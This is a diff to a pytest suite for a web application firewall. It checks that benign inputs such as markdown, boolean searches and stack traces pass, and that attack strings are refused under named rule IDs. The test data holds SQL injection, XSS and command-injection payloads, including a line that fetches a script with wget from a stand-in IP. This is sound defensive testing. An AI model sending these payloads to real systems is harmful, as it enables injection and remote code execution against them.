@@ -268,8 +268,8 @@ def test_exact_phrase_search(gatehouse, origin, port):
                 json.dumps({"q": '"select few" vinyl'}).encode()).status == 200
     hits = origin.stats.heads
     for q, rule in (("1 union select null,version()", "90042"),
-                    ("x' union select password from users--", "942100"),
-                    ("1 or 1=1", "942100")):
+                    ("x' union select password from users--", "90048"),    # D29: 942100's
+                    ("1 or 1=1", "90048")):                                  # stand-in here
         assert send(port, "GET", "/search?" + urlencode({"keywords": q})).status == 403, q
         assert blocked_by(g, rule), (rule, g.stderr_tail())
     # the same phrase in a parameter that is not a search box: the CRS as shipped
@@ -311,7 +311,7 @@ def test_crs_fixed_rules_keep_refusing(gatehouse, origin, port):
     for body, rule in ((form(wpTextbox1='" autofocus onfocus=alert(1) x="'), "90043"),
                        (form(wpTextbox1="<!--<img src=x>"), "90044"),
                        (form(wpTextbox1="x\" union all select password from users-- "), "90045"),
-                       (form(wpTextbox1="(system)('id')"), "933210")):
+                       (form(wpTextbox1="(system)('id')"), "90047")):     # D28
         assert send(port, "POST", "/wiki/edit", FORM, body).status == 403, body
         assert blocked_by(g, rule), (rule, g.stderr_tail())
     assert untouched(origin)
@@ -335,3 +335,66 @@ def test_defaults_off_refuses_line_starts_and_crs_fixed_shapes(gatehouse, origin
             continue        # 90034 is gatehouse's own: the CRS passes the table
         assert send(port, method, target, headers, body).status == 403, shape
     assert untouched(origin)
+
+
+# D25-D30 (tests/waf/default-exclusions.md, "Sixth round"): mechanisms behind
+# holdout7's false positives and the ones left on the other sets.  Each
+# shape is refused by the D1-D23 build (and by CRS 3.3.4 PL1 as shipped,
+# but for the table, whose rule 90034 is gatehouse's own, and the quoted
+# 'and', whose rule 90032 is too).
+
+SHAPES6 = {
+    "D25 quoted word": ("POST", "/v1/t", JSON, json.dumps(
+        {"properties": {"name": "Men's Trail Runner 'Select' Edition"}}).encode()),
+    "D25 quoted and in free text": ("POST", "/hooks/jira", JSON, json.dumps(
+        {"issue": {"summary": "Search drops results when query contains 'and'"}}).encode()),
+    "D26 tus chunk": ("PATCH", "/files/24e533e0", [("Content-Type", "application/offset+octet-stream"),
+                                                   ("Tus-Resumable", "1.0.0")], b"RIFF$\0\0\0WAVEfmt "),
+    "D27 table opening a value": ("POST", "/api/wiki", JSON, json.dumps(
+        {"content": "| Week | Primary |\n|---|---|\n| 49 | ana |"}).encode()),
+    "D28 markdown link": ("POST", "/api/blog/drafts", JSON, json.dumps(
+        {"body_md": "See [the scheduler docs](https://docs.example.com/scheduler) - TL;DR"}).encode()),
+    "D29 boolean search": ("GET", "/jobs?" + urlencode({"q": "(python OR golang) AND remote NOT senior"}),
+                           (), b""),
+    "D30 stack trace": ("POST", "/api/client-errors", JSON, json.dumps(
+        {"stack": "TypeError: x\n    at Object.<anonymous> (/srv/app.js:1:9981)"}).encode()),
+}
+
+
+@pytest.mark.parametrize("shape", sorted(SHAPES6))
+def test_round6_shape_passes(gatehouse, origin, port, shape):
+    g = start(gatehouse, port, origin)
+    method, target, headers, body = SHAPES6[shape]
+    assert send(port, method, target, headers, body).status == 200, g.stderr_tail()
+
+
+def test_defaults_off_refuses_round6_shapes(gatehouse, origin, port):
+    start(gatehouse, port, origin, waf="defaults off")
+    for shape, (method, target, headers, body) in sorted(SHAPES6.items()):
+        if shape in ("D27 table opening a value", "D25 quoted and in free text"):
+            continue        # 90034 and 90032 are gatehouse's own: the CRS passes these
+        assert send(port, method, target, headers, body).status == 403, shape
+    assert untouched(origin)
+
+
+def test_round6_stand_ins_keep_refusing(gatehouse, origin, port):
+    g = start(gatehouse, port, origin)
+    for target, body, rule in (
+            ("/api/orders", form(region="x 'having' yes"), "90045"),   # a truthy tail
+            ("/contact", form(message="hello 'or' 1=1"), "90032"),
+            ("/api/posts", form(content="| id"), "90034"),
+            ("/p", form(x="['system'][0]('id');"), "90047"),
+            ("/p", form(x="(sy.(st).em)('id')"), "90047"),
+            ("/p", form(x="cat <(wget -qO- http://203.0.113.9/s)"), "90050"),
+            ("/p", form(x="a$(id)"), "90049"),
+            # the chain reads every value the first link took (MATCHED_VARS)
+            ("/contact", form(subject="it' or not", message="x' or 1=1-- -"), "90032")):
+        assert send(port, "POST", target, FORM, body).status == 403, body
+        assert blocked_by(g, rule), (rule, body, g.stderr_tail())
+    assert untouched(origin)
+
+
+def test_exclude_removes_the_round6_stand_ins(gatehouse, origin, port):
+    start(gatehouse, port, origin, waf="exclude 933210\n    exclude 932130")
+    assert send(port, "POST", "/p", FORM, form(x="['system'][0]('id');")).status == 200
+    assert send(port, "POST", "/p", FORM, form(x="8.8.8.8 <(id)")).status == 200
